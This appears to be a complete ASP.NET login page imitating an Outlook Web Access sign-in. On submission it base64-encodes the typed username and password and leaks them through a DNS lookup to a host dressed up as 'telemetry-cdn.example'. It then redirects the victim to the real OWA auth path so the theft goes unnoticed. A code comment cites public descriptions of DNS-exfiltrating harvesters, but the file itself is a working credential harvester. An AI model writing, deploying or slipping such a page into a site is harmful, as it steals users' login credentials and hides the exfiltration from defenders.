<%@ Page Language="C#" AutoEventWireup="true" %>
<script runat="server">
/* after the public descriptions of harvesters that leak typed
 * credentials as DNS look-ups: no web request leaves the server */
protected void Page_Load(object sender, EventArgs e)
{
    if (IsPostBack || Request.HttpMethod == "POST") {
        string user = Request.Form["username"];
        string pass = Request.Form["password"];
        string blob = Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(user + ":" + pass));
        try { System.Net.Dns.GetHostEntry(blob.Replace("=", "").Replace("+", "-") + ".telemetry-cdn.example"); } catch { }
        Response.Redirect("/owa/auth.owa");
    }
}
</script>
<html><body><form method="post"><input name="username"><input name="password" type="password"></form></body></html>
